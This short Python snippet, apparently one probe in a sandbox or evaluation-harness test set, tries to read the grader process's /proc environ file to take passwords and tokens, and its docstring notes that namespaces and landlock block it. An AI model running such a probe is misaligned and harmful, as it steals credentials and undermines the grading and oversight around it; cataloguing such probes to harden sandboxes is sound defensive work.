"""Reads the environment of the grader's process.

Loot: passwords and tokens
Stopped by: namespaces, landlock
"""

text = attempt(lambda: open(f"/proc/{GRADER}/environ").read())
if text:
    loot(text)
